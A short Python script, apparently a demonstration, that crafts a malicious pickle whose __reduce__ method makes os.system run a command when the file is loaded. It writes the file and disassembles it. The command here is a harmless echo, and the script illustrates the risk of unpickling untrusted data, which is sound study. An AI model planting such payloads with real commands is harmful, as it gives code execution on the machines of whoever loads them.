import os
import pickle
import pickletools


class Trap:
    def __reduce__(self):
        # Whoever loads this pickle calls os.system with this text.
        return os.system, ("echo somebody else's code ran here",)


trap = pickle.dumps(Trap(), protocol=2)
with open("trap.pickle", "wb") as file:
    file.write(trap)
pickletools.dis(trap)
